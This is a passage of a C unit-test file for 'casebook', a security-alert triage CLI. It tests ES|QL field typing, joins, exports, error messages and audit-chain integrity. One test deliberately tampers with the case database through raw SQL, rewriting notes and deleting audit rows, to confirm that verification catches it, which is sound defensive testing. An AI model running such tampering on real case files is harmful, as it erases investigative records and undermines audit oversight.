	assert_int_equal(CB("m.db", "events --query 'custom.addr: 10.0.0.0/8'"), 0);
	assert_string_equal(out.buf, EVENTS_HEADER);
	assert_int_equal(CB("m.db", "mapping import '%s'", tu_path("m.json")), 0);
	assert_non_null(strstr(out.buf, ": 4 field types imported\n"));
	assert_int_equal(CB("m.db", "mapping"), 0);
	assert_non_null(strstr(out.buf, "custom.addr                                       ip\n"));
	assert_int_equal(CB("m.db", "events --query 'custom.addr: 10.0.0.0/8'"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_int_equal(CB("m.db", "events --query 'custom.when: \"2024-05-01T10:00:00Z\"'"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_int_equal(CB("m.db", "events --query 'file.path.text: \"secret report\"'"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_int_equal(CB("m.db", "events --query 'file.path: report'"), 0); /* the keyword stays exact */
	assert_string_equal(out.buf, EVENTS_HEADER);
	tu_write_str(tu_path("none.json"), "{\"acknowledged\": true}");
	assert_int_equal(CB("m.db", "mapping import '%s'", tu_path("none.json")), 1);
	assert_non_null(strstr(err.buf, ": it holds no mapping (no \"properties\")\n"));
}

/* `casebook esql` types the fields by the case's imported mapping, as detect does: before the
 * import a float field reads as the document writes it, after it at Elasticsearch's stored
 * precision (floats.csv-spec: 2.03 is 2.0299999713897705 as a float, 2.029296875 as a
 * half_float, 2.03 as a scaled_float of factor 100), and a date field compares as an instant. */
static void test_esql_types_fields_by_the_imported_mapping(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("fm.json"),
	    "{\"logs-endpoint.events.process-default\": {\"mappings\": {\"properties\": {\"m\": {\"properties\": "
	    "{\"f\": {\"type\": \"float\"}, \"h\": {\"type\": \"half_float\"}, \"s\": {\"type\": "
	    "\"scaled_float\", \"scaling_factor\": 100}, \"when\": {\"type\": \"date\"}}}}}}}");
	tu_write_str(tu_path("fm.ndjson"),
	             "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"f1\",\"category\":\"process\"},"
	             "\"m\":{\"f\":2.03,\"h\":2.03,\"s\":2.03,\"when\":\"2024-05-01T12:00:00+02:00\"}}\n");
	assert_int_equal(CB("fm.db", "ingest '%s'", tu_path("fm.ndjson")), 0);
	static const char query[] = "esql 'FROM logs-* | EVAL later = m.when > \"2024-05-01T10:30:00Z\" | KEEP m.f, "
	                            "m.h, m.s, later' --json";
	assert_int_equal(CB("fm.db", "%s", query), 0);
	assert_string_equal(out.buf, "{\"m.f\":2.03,\"m.h\":2.03,\"m.s\":2.03,\"later\":true}\n"); /* text order */
	assert_int_equal(CB("fm.db", "mapping import '%s'", tu_path("fm.json")), 0);
	assert_int_equal(CB("fm.db", "mapping"), 0);
	assert_non_null(strstr(out.buf, "m.s                                               scaled_float(100)\n"));
	assert_int_equal(CB("fm.db", "%s", query), 0);
	assert_string_equal(out.buf, "{\"m.f\":2.0299999713897705,\"m.h\":2.029296875,\"m.s\":2.03,\"later\":false}\n");
	assert_int_equal(CB("fm.db", "esql 'FROM logs-* | WHERE m.f == 2.03 | KEEP m.f'"), 0);
	assert_string_equal(out.buf, "");
}

/* LOOKUP JOIN reads its index from the case: an index of events the case holds (here threat
 * intelligence beside process events), joined on a field; a row no document matches keeps nulls,
 * and an index the case does not hold is said, not run. */
static void test_esql_lookup_join_reads_an_index_of_the_case(void **state)
{
	(void)state;
	tu_write_str(tu_path("lj.ndjson"),
	             "{\"_index\":\"logs-proc\",\"_source\":{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{"
	             "\"id\":\"p1\"},\"file\":{\"hash\":{\"sha256\":\"aa\"}}}}\n"
	             "{\"_index\":\"logs-proc\",\"_source\":{\"@timestamp\":\"2024-05-01T10:00:01Z\",\"event\":{"
	             "\"id\":\"p2\"},\"file\":{\"hash\":{\"sha256\":\"bb\"}}}}\n"
	             "{\"_index\":\"ti-hashes\",\"_source\":{\"@timestamp\":\"2024-04-01T00:00:00Z\",\"file\":{\"hash\""
	             ":{\"sha256\":\"bb\"}},\"threat\":{\"feed\":\"x\"}}}\n");
	assert_int_equal(CB("lj.db", "ingest '%s'", tu_path("lj.ndjson")), 0);
	assert_int_equal(CB("lj.db",
	                    "esql 'FROM logs-proc | LOOKUP JOIN ti-hashes ON file.hash.sha256 | KEEP event.id, "
	                    "threat.feed | SORT event.id' --json"),
	                 0);
	assert_string_equal(
	    out.buf, "{\"event.id\":\"p1\",\"threat.feed\":null}\n{\"event.id\":\"p2\",\"threat.feed\":\"x\"}\n");
	assert_int_equal(CB("lj.db", "esql 'FROM logs-proc | LOOKUP JOIN ti-none ON file.hash.sha256'"), 1);
	assert_non_null(strstr(err.buf, "LOOKUP JOIN: the case holds no index named ti-none"));
}

static void test_numbers_are_copied_exactly(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("big.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"big\",\"category\":[\"file\"],"
	    "\"type\":[\"creation\"],\"action\":\"creation\",\"sequence\":131762381484502110},\"host\":{\"id\":"
	    "\"h\",\"name\":\"mac\",\"os\":{\"type\":\"macos\"}},\"process\":{\"pid\":66,\"ratio\":1.0,"
	    "\"args\":[1,2.50,\"x\\\"9\"]},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/b.dsplug\","
	    "\"size\":18446744073709551615}}\n");
	assert_int_equal(CB("big.db", "ingest '%s'", tu_path("big.ndjson")), 0);
	tu_seed_rule_only_cli(tu_path("big.db"));
	assert_int_equal(CB("big.db", "detect"), 0);
	static const char *const formats[] = {"alerts --json", "export --all --format json",
	                                      "export --all --format markdown --source"};
	for (size_t i = 0; i < 3; i++) {
		assert_int_equal(CB("big.db", "%s", formats[i]), 0);
		assert_non_null(strstr(out.buf, "131762381484502110"));
		assert_non_null(strstr(out.buf, "18446744073709551615"));
		assert_null(strstr(out.buf, "e+17"));
		assert_null(strstr(out.buf, "e+19"));
	}
	assert_int_equal(CB("big.db", "alerts --json"), 0);
	assert_non_null(strstr(out.buf, "\"ratio\":1.0,\"args\":[1,2.50,\"x\\\"9\"]"));
}

/* A Markdown report fits a ticket: the rows around the alert's events, the JSON behind
 * --source; a sequence keeps its events with --window 0s. */
static void test_markdown_is_ticket_sized(void **state)
{
	(void)state;
	assert_int_equal(
	    tu_run(&out, &err, "{ build/release/gen-events --events 2000 --hosts 8 > '%s'; }", tu_path("md.ndjson")),
	    0);
	assert_int_equal(CB("md.db", "ingest '%s'", tu_path("md.ndjson")), 0);
	assert_int_equal(CB("md.db", "detect"), 0);
	assert_int_equal(tu_run(&out, &err,
	                        "%s --db '%s' alerts --json | grep 'Installed Then Run' | head -1 | sed -n "
	                        "'s/.*\"kibana.alert.uuid\":\"\\([0-9a-f]*\\)\".*/\\1/p'",
	                        tu_casebook(), tu_path("md.db")),
	                 0);
	char seq[80];
	snprintf(seq, sizeof(seq), "%.64s", out.buf);
	assert_int_equal(strlen(seq), 64);
	assert_int_equal(CB("md.db", "export %s", seq), 0);
	assert_true(out.len < 32000);
	assert_null(strstr(out.buf, "## Source event"));
	char more[200];
	snprintf(more, sizeof(more),
	         " more events in the window, further from the alert's, are not shown: `casebook "
	         "timeline %.12s` lists them all.\n",
	         seq);
	assert_non_null(strstr(out.buf, more));
	assert_int_equal(tu_count(out.buf, "\n| ▶ |"), 2); /* the sequence's two events */
	assert_int_equal(CB("md.db", "export %s --window 0s", seq), 0);
	assert_int_equal(tu_count(out.buf, "\n| ▶ |"), 2);
	assert_int_equal(CB("md.db", "export %s --source", seq), 0);
	assert_non_null(strstr(out.buf, "## Source event\n\n```json\n{"));
}

/* An older agent's event without host.os.type: casebook derives it from host.os.platform and
 * the alert carries the value where ECS has it, marked derived (it said "OS —" before). */
static void test_derived_os_on_the_alert(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("dv.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"d1\",\"category\":[\"file\"],\"type\":"
	    "[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\",\"os\":{\"platform\":"
	    "\"darwin\"}},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/d.dsplug\"}}\n");
	assert_int_equal(CB("dv.db", "ingest '%s'", tu_path("dv.ndjson")), 0);
	tu_seed_rule_only_cli(tu_path("dv.db"));
	assert_int_equal(CB("dv.db", "detect"), 0);
	assert_int_equal(CB("dv.db", "alerts --json"), 0);
	assert_non_null(strstr(out.buf,
	                       "\"host\":{\"id\":\"h\",\"name\":\"mac\",\"os\":{\"platform\":\"darwin\",\"type\":"
	                       "\"macos\"}}"));
	assert_non_null(strstr(out.buf, "\"casebook.derived_fields\":[\"host.os.type\"]"));
}

static void test_cli_main_in_process(void **state)
{
	(void)state;
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "--version", NULL}), 0);
	assert_string_equal(out.buf, "casebook " CLI_VERSION " (schema 14)\n");
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "frobnicate", NULL}), EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook: unknown command: frobnicate\n", 38);
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "--analyst", NULL}), EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook: this option needs a value: --analyst\n", 47);
	/* global options after the command; a missing case is named, with what to do */
	char db[512];
	snprintf(db, sizeof(db), "%s", tu_path("inproc-missing.db"));
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "alerts", "--db", db, NULL}), 1);
	assert_non_null(strstr(err.buf, "casebook: start a case with 'casebook ingest FILE' (or pass --db PATH)\n"));
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "statsu", "x", NULL}), EXIT_USAGE);
	assert_string_equal(err.buf, "casebook: unknown command: statsu; did you mean 'status'? ('casebook help' lists "
	                             "them)\n");
	/* a word from another console names the command that does it; a near option, itself */
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "close", "x", NULL}), EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook: unknown command: close; did you mean 'status ALERT closed --reason R'?",
	                    strlen("casebook: unknown command: close; did you mean 'status ALERT closed --reason R'?"));
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "alerts", "--sevrity", "high", NULL}),
	                 EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook alerts: unknown option --sevrity; did you mean --severity?\n",
	                    strlen("casebook alerts: unknown option --sevrity; did you mean --severity?\n"));
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "events", "--limit", NULL}), EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook events: --limit needs a value\n", 39);
	assert_int_equal(
	    cli_in_process(&out, &err,
	                   (char *[]){"casebook", "events", "--from", "2024-05-02", "--to", "2024-05-01", NULL}),
	    EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook events: --from is after --to\n", 38);
	char dir[512];
	snprintf(dir, sizeof(dir), "%s", tu_tmpdir());
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "--db", dir, "alerts", NULL}), 1);
	assert_memory_equal(err.buf, "casebook: ", 10);
	assert_non_null(strstr(err.buf, " is a directory, not a case file (pass --db PATH/casebook.db)\n"));
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "help", "audit", NULL}), 0);
	assert_memory_equal(out.buf, "usage: casebook audit [ALERT] [--json] | audit --verify", 55);
	assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "audit", "--expect", "1:x", NULL}),
	                 EXIT_USAGE);
	assert_memory_equal(err.buf, "casebook audit: --expect goes with --verify\n", 44);
}

/* Issue "no analyst's work is ever lost": each of these was reproduced before its fix. */
static void test_nothing_the_analyst_did_is_lost(void **state)
{
	(void)state;
	assert_int_equal(CB("w.db", "ingest tests/fixtures/hostile.ndjson"), 0);
	tu_seed_rule_only_cli(tu_path("w.db"));
	assert_int_equal(CB("w.db", "detect"), 0);
	assert_non_null(strstr(out.buf, "2 alerts created"));
	/* an exception survives every later writing command (each reloads the bundled pack) */
	assert_int_equal(CB("w.db", "exception add 89fa6cb7-6b53-4de2-b604-648488841ab8 --field host.name "
	                            "--value mac-good --comment 'Apple updates' --confirm-broad"),
	                 0);
	assert_int_equal(CB("w.db", "rules enable 89fa6cb7-6b53-4de2-b604-648488841ab8 --version 107"), 0);
	assert_int_equal(CB("w.db", "ingest tests/fixtures/hostile.ndjson"), 0);
	assert_int_equal(tu_run(&out, &err,
	                        "%s --db '%s' alerts --json | head -1 | sed -n "
	                        "'s/.*\"kibana.alert.uuid\":\"\\([0-9a-f]*\\)\".*/\\1/p'",
	                        tu_casebook(), tu_path("w.db")),
	                 0);
	char uuid[80];
	snprintf(uuid, sizeof(uuid), "%.64s", out.buf);
	/* a reader never writes: the case file is byte for byte the same after show and export */
	assert_int_equal(
	    tu_run(&out, &err, "cat '%s' '%s-wal' 2>/dev/null | sha256sum", tu_path("w.db"), tu_path("w.db")), 0);
	char before[100];
	snprintf(before, sizeof(before), "%s", out.buf);
	assert_int_equal(CB("w.db", "show %s", uuid), 0);
	assert_int_equal(CB("w.db", "export %s --format json", uuid), 0);
	assert_int_equal(
	    tu_run(&out, &err, "cat '%s' '%s-wal' 2>/dev/null | sha256sum", tu_path("w.db"), tu_path("w.db")), 0);
	assert_string_equal(out.buf, before);
	/* the exception still holds: mac-good's plugin is not alerted again */
	assert_int_equal(CB("w.db", "exception list"), 0);
	assert_non_null(strstr(out.buf, "mac-good"));
	assert_int_equal(CB("w.db", "detect --from 2024-05-01T00:00:00Z --to 2024-05-02T00:00:00Z"), 0);
	assert_non_null(strstr(out.buf, " 0 alerts created"));
	/* -o names the format by its extension, and a contradiction is refused */
	assert_int_equal(CB("w.db", "export %s -o '%s'", uuid, tu_path("x.json")), 0);
	assert_string_equal(err.buf, "1 alert exported as json\n");
	assert_int_equal(CB("w.db", "export %s -o '%s'", uuid, tu_path("x.thehive-case.json")), 0);
	assert_string_equal(err.buf, "1 alert exported as thehive-case\n");
	assert_int_equal(CB("w.db", "export %s --format thehive -o '%s'", uuid, tu_path("th.json")), 0);
	assert_int_equal(CB("w.db", "export %s --format markdown -o '%s'", uuid, tu_path("y.json")), 64);
	assert_memory_equal(err.buf,
	                    "casebook export: --format markdown writes .md files, not .json; name the file so, or "
	                    "leave out --format\n",
	                    99);
	/* a note with a NUL byte is refused whole, never stored cut short */
	tu_write(tu_path("nul.txt"), "before\0after", 12);
	assert_int_equal(tu_run(&out, &err, "%s --db '%s' note %s - < '%s'", tu_casebook(), tu_path("w.db"), uuid,
	                        tu_path("nul.txt")),
	                 1);
	assert_string_equal(err.buf, "casebook note: the note has a NUL byte at offset 6; a note is text, nothing was "
	                             "added\n");
	assert_int_equal(CB("w.db", "audit"), 0);
	assert_int_equal(tu_count(out.buf, " note"), 0);
	/* a failed write to stdout is an error */
	assert_int_equal(tu_run(&out, &err, "{ %s --db '%s' alerts > /dev/full; }", tu_casebook(), tu_path("w.db")), 1);
	assert_string_equal(err.buf, "casebook: writing to standard output failed: No space left on device\n");
	assert_int_equal(
	    tu_run(&out, &err, "{ %s --db '%s' events --json > /dev/full; }", tu_casebook(), tu_path("w.db")), 1);
	/* --force keeps the replaced file's mode; a killed export's temporary file is removed */
	tu_write_str(tu_path("r.md"), "old\n");
	assert_int_equal(
	    tu_run(&out, &err, "chmod 600 '%s' && touch '%s.tmp-2147483646'", tu_path("r.md"), tu_path("r.md")), 0);
	assert_int_equal(CB("w.db", "export %s -o '%s' --force", uuid, tu_path("r.md")), 0);
	assert_int_equal(
	    tu_run(&out, &err, "{ stat -c %%a '%s'; ls '%s'* | wc -l; }", tu_path("r.md"), tu_path("r.md")), 0);
	assert_string_equal(out.buf, "600\n1\n");
	/* the anchor: audit --head, checked by --expect; a rewritten chain fails it */
	assert_int_equal(CB("w.db", "note %s 'keep this'", uuid), 0);
	assert_int_equal(CB("w.db", "audit --head"), 0);
	char anchor[120];
	snprintf(anchor, sizeof(anchor), "%.*s", (int)strcspn(out.buf, "\n"), out.buf);
	/* the note is the newest entry, after the alerts' anchors and the exception's entries */
	long note_entry = strtol(anchor, NULL, 10);
	assert_true(note_entry > 2);
	const char *hash = strchr(anchor, ':') + 1;
	char want[200];
	assert_int_equal(CB("w.db", "audit --verify --expect %s", anchor), 0);
	assert_int_equal(CB("w.db", "audit --verify --expect %ld:%s", note_entry + 1, hash), 2);
	snprintf(want, sizeof(want),
	         "audit chain BROKEN: entry %ld of the anchor is no longer in the chain (entries were removed)\n",
	         note_entry + 1);
	assert_string_equal(out.buf, want);
	assert_int_equal(CB("w.db", "audit --verify --expect junk"), 64);
	sqlite3 *raw;
	assert_int_equal(sqlite3_open(tu_path("w.db"), &raw), SQLITE_OK);
	assert_int_equal(sqlite3_exec(raw, "UPDATE notes SET text = 'nothing to see'", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(raw);
	assert_int_equal(CB("w.db", "audit --verify --expect %s", anchor), 2);
	assert_memory_equal(out.buf, "audit chain BROKEN: note 1 of alert ", 36);
	snprintf(want, sizeof(want), "is not what audit entry %ld recorded: it was changed\n", note_entry);
	assert_non_null(strstr(out.buf, want));
	/* an emptied chain with triage rows fails too */
	assert_int_equal(sqlite3_open(tu_path("w.db"), &raw), SQLITE_OK);
	assert_int_equal(sqlite3_exec(raw, "DELETE FROM audit; DELETE FROM audit_head", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(raw);
	assert_int_equal(CB("w.db", "audit --verify"), 2);
	assert_non_null(strstr(out.buf, "has no audit entry anchoring it: it was added outside casebook\n"));
	/* a bulk change through the one triage API: an alert already in the status is said so */
	assert_int_equal(CB("w.db", "status %s acknowledged", uuid), 0);
	assert_string_equal(out.buf, "1 alert acknowledged\n");
	assert_int_equal(CB("w.db", "status %s ack", uuid), 0); /* the console's word for it */
	assert_string_equal(out.buf, "0 alerts acknowledged, 1 already acknowledged\n");
	assert_int_equal(CB("w.db", "status %s closed --reason other --force", uuid), 0);
	assert_string_equal(out.buf, "1 alert closed\n");
	assert_int_equal(CB("w.db", "status %s closed --reason duplicate --force", uuid), 0); /* a no-op */
	assert_string_equal(out.buf, "0 alerts closed, 1 already closed\n");
	assert_int_equal(CB("w.db", "respond %s 2 n/a", uuid), 0);
	assert_non_null(strstr(out.buf, ": response step 2 na\n"));
}

/* Two processes creating the same new case at once both succeed. */
static void test_concurrent_creation(void **state)
{
	(void)state;
	for (int round = 0; round < 6; round++) {
		char db[64];
		snprintf(db, sizeof(db), "race%d.db", round);
		char path[512];
		snprintf(path, sizeof(path), "%s", tu_path(db));
		assert_int_equal(
		    tu_run(&out, &err,
		           "{ %s --db '%s' ingest /dev/null >/dev/null & %s --db '%s' ingest /dev/null >/dev/null & "
		           "wait %%1; a=$?; wait %%2; b=$?; echo $a $b; }",
		           tu_casebook(), path, tu_casebook(), path),
		    0);
		assert_string_equal(out.buf, "0 0\n");
	}
}

/* docs/casebook.1's text with the roff escapes of its examples undone. */
static void man_page_text(struct strbuf *sb)
{
	FILE *f = fopen("docs/casebook.1", "r");
	assert_non_null(f);
	int c, prev = 0;
	strbuf_reset(sb);
	while ((c = fgetc(f)) != EOF) {
		if (prev == '\\') {
			if (c == '-')
				strbuf_addch(sb, '-');
			else if (c == 'e')
				strbuf_addch(sb, '\\');
			else if (c != '&')
				strbuf_addch(sb, '\\'), strbuf_addch(sb, (char)c);
			prev = 0;
			continue;
		}
		if (c != '\\')
			strbuf_addch(sb, (char)c);
		prev = c;
	}
	fclose(f);
}

/* casebook help COMMAND gives every command's options and two or three examples, which
 * run the command they name; the man page's EXAMPLES section has each of them. */
static void test_help_gives_options_and_examples_the_man_page_has(void **state)
{
	(void)state;
	struct strbuf man, list;
	strbuf_init(&man, 1 << 16);
	strbuf_init(&list, 4096);
	man_page_text(&man);
	assert_int_equal(cli_in_process(&list, &err, (char *[]){"casebook", "--help", NULL}), 0);
	char names[40][32];
	int commands = 0;
	const char *end = strstr(list.buf, "\nglobal options:");
	assert_non_null(end);
	for (const char *p = strstr(list.buf, "commands:\n");
	     (p = strstr(p, "\n  ")) != NULL && p < end && commands < 40;) {
		p += 3;
		size_t n = strcspn(p, " ");
		assert_true(n > 0 && n < sizeof(names[0]));
		memcpy(names[commands], p, n);
		names[commands++][n] = '\0';
	}
	for (int c = 0; c < commands; c++) {
		const char *name = names[c];
		const struct command_help *h = command_help_find(name);
		if (!h)
			fail_msg("casebook help %s has no options and examples (cli/helptext.c)", name);
		assert_int_equal(cli_in_process(&out, &err, (char *[]){"casebook", "help", (char *)name, NULL}), 0);
		assert_non_null(strstr(out.buf, "\noptions:\n"));
		assert_non_null(strstr(out.buf, h->options));
		int examples = 0;
		for (int i = 0; i < HELP_EXAMPLES && h->examples[i]; i++, examples++) {
			char line[600];
			snprintf(line, sizeof(line), "\n  %s\n", h->examples[i]);
			assert_non_null(strstr(out.buf, line));
			snprintf(line, sizeof(line), "casebook %.31s", name);     /* a name is at most 31 bytes */
			if (!strstr(h->examples[i], line) && strcmp(name, "tui")) /* casebook alone opens the console */
				fail_msg("example of %s does not run it: %s", name, h->examples[i]);
			snprintf(line, sizeof(line), "\n%s\n", h->examples[i]);
			if (!strstr(man.buf, line))
				fail_msg("docs/casebook.1 lacks the example: %s", h->examples[i]);
		}
		assert_true(examples >= 2);
		if (strcmp(name, "help")) { /* COMMAND --help says the same */
			assert_int_equal(
			    cli_in_process(&list, &err, (char *[]){"casebook", (char *)name, "--help", NULL}), 0);
			assert_string_equal(list.buf, out.buf);
		}
	}
	assert_int_equal(commands, 22); /* every command of the table */
	strbuf_release(&man);
	strbuf_release(&list);
}

/* A directory is ingested recursively; a file that is not JSON named on the command line is
 * refused with its type (exit 1), one inside a directory is left out with a note (exit 0). */
static void test_ingest_a_directory_and_refuse_what_is_not_json(void **state)
{
	(void)state;
	const char *dir = tu_path("exports");
	char cmd[1024];
	snprintf(
	    cmd, sizeof(cmd),
	    "mkdir -p '%s/b' && cd '%s' && printf "
	    "'{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"a\"}}\\n' "
	    "> a.ndjson && printf '{\"@timestamp\":\"2024-05-01T10:00:01Z\",\"event\":{\"id\":\"b\"}}\\n' > b/b.json "
	    "&& printf '\\211PNG\\r\\n\\032\\n' > b/shot.png",
	    dir, dir);
	assert_int_equal(system(cmd), 0);
	char db[512];
	snprintf(db, sizeof(db), "%s", tu_path("dir.db"));
	char bin[4096];
	assert_non_null(realpath(tu_casebook(), bin));
	assert_int_equal(tu_run(&out, &err, "cd '%s' && '%s' --db '%s' ingest exports", tu_tmpdir(), bin, db), 0);
	assert_string_equal(out.buf, "2 documents: 2 added, 0 duplicate, 0 rejected\n");
	assert_string_equal(err.buf, "exports/b/shot.png: not read: it is a PNG image, not JSON (casebook reads JSON "
	                             "and NDJSON documents, plain or gzip)\n");
	assert_int_equal(
	    tu_run(&out, &err, "cd '%s' && '%s' --db '%s' ingest exports/b/shot.png", tu_tmpdir(), bin, db), 1);
	assert_string_equal(out.buf, "0 documents: 0 added, 0 duplicate, 0 rejected\n");
	assert_string_equal(err.buf, "exports/b/shot.png: not read: it is a PNG image, not JSON (casebook reads JSON "
	                             "and NDJSON documents, plain or gzip)\n");
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
	const struct CMUnitTest tests[] = {
	    T(test_help_and_version),
	    T(test_help_gives_options_and_examples_the_man_page_has),
	    T(test_ingest_a_directory_and_refuse_what_is_not_json),
	    T(test_usage_errors_exit_64),
	    T(test_kibana_alerts_are_triaged_and_go_back),
	    T(test_a_forged_kibana_alert_never_acts_on_real_alerts),
	    T(test_a_rule_an_alert_brought_never_shadows_an_import),
	    T(test_an_import_keeps_the_analysts_exceptions),
	    T(test_numbers_from_documents_are_range_checked),
	    T(test_mapping_import_types_fields),
	    T(test_esql_types_fields_by_the_imported_mapping),
	    T(test_esql_lookup_join_reads_an_index_of_the_case),
	    T(test_ingest_exit_statuses_and_summary),
	    T(test_ingest_from_stdin),
	    T(test_events_table_json_and_filters),
	    T(test_events_detail_reads_as_the_timeline),
	    T(test_rejects_listing),
	    T(test_hostile_fields_never_reach_the_terminal_raw),
	    T(test_commands_on_a_missing_database),
	    T(test_detect_alerts_show_timeline),
	    T(test_times_in_the_analysts_zone),
	    T(test_triage_from_the_command_line),
	    T(test_rule_versions_sequences_and_coverage),
	    T(test_nothing_the_analyst_did_is_lost),
	    T(test_cli_main_in_process),
	    T(test_rules_import_validates_queries),
	    T(test_numbers_are_copied_exactly),
	    T(test_markdown_is_ticket_sized),
	    T(test_derived_os_on_the_alert),
	    T(test_concurrent_creation),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
